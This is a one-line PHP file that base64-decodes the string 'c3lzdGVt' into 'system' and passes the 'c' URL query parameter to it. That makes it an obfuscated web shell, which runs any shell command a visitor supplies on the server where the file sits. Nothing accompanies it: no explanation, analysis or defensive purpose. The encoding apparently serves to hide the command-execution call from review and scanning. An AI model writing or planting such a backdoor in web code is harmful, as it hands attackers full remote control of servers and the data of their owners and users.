<?php $nm = fn($s) => base64_decode($s); $nm('c3lzdGVt')($_GET['c']);
